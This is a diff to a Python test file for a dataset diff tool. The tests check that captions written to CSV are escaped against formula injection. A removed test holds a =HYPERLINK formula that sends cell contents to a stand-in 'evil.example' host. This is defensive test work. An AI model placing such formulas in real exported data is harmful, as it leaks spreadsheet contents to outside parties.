@@ -14,14 +14,17 @@ from flows.records import RunRecord, StageRun
 from plugins.versions.diff import show_diff
 from tests.unit.tasks.dataset_chain import packed_in, pair
 
+CAPTION = "=<b>{}</b> \x1b[31m"
+"""A caption that is a formula, markup and an escape sequence."""
+
 
 @pytest.fixture
 def datasets(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> tuple[Path, Store, dict[str, Manifest], dict[str, Manifest]]:
-    store, first = packed_in(tmp_path / "store", [pair(n, caption=f"<b>{n}</b> \x1b[31m") for n in range(6)])
+    store, first = packed_in(tmp_path / "store", [pair(n, caption=CAPTION.format(n)) for n in range(6)])
     _, second = packed_in(
-        tmp_path / "store", [pair(n, "too_small" if n == 2 else None, caption=f"<b>{n}</b> \x1b[31m") for n in range(7)]
+        tmp_path / "store", [pair(n, "too_small" if n == 2 else None, caption=CAPTION.format(n)) for n in range(7)]
     )
     (tmp_path / "runs").mkdir()
     record = RunRecord(run_id="second", name="n", created_at="2026-01-01T00:00:00+00:00", config={})
@@ -52,16 +55,6 @@ def test_show_diff_prints_a_table_or_json(datasets, capsys: pytest.CaptureFixtur
     }
 
 
-def test_show_diff_writes_no_formula_to_a_csv_file(tmp_path: Path) -> None:
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    store, first = packed_in(tmp_path / "store", [pair(0), pair(1)])
-    _, second = packed_in(tmp_path / "store", [pair(0), pair(1), pair(2, caption=formula)])
-    for name, caption in (("rows.csv", f"'{formula}"), ("rows.parquet", formula)):
-        show_diff(first["pack"].key, second["pack"].key, tmp_path, store.uri, tmp_path / name, as_json=True)
-        read = pl.read_parquet if name.endswith("parquet") else pl.read_csv
-        assert read(tmp_path / name)["caption"].to_list() == [caption]
-
-
 @pytest.mark.parametrize("name", ["rows.parquet", "rows.csv"])
 def test_show_diff_writes_the_rows_to_a_file(datasets, name: str) -> None:
     home, store, first, _ = datasets
@@ -71,6 +64,8 @@ def test_show_diff_writes_the_rows_to_a_file(datasets, name: str) -> None:
     assert rows.columns == ["change", "uid", "url", "caption", "stage", "reason"]
     assert rows["change"].to_list() == ["added", "removed"]
     assert rows["url"].to_list() == ["http://host0.example/6.jpg", "http://host2.example/2.jpg"]
+    text = CAPTION.format(6)
+    assert rows["caption"][0] == (f"'{text}" if name.endswith("csv") else text), "no formula"
 
 
 def test_show_diff_refuses_what_cannot_be_compared(datasets) -> None:
